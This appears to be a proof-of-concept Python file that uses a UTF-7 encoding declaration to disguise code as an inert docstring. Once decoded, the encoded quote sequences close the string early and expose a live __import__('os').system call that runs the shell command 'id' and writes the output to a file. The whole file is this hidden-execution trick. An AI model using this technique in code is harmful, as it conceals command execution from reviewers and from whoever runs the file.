
# vim: fileencoding=utf7
"""+ACIAIgAi-
+AF8-+AF8-import+AF8-+AF8-(+ACI-os+ACI-).system(+ACI-id+AD4-pf+ACI-)
+ACIAIgAi-"""
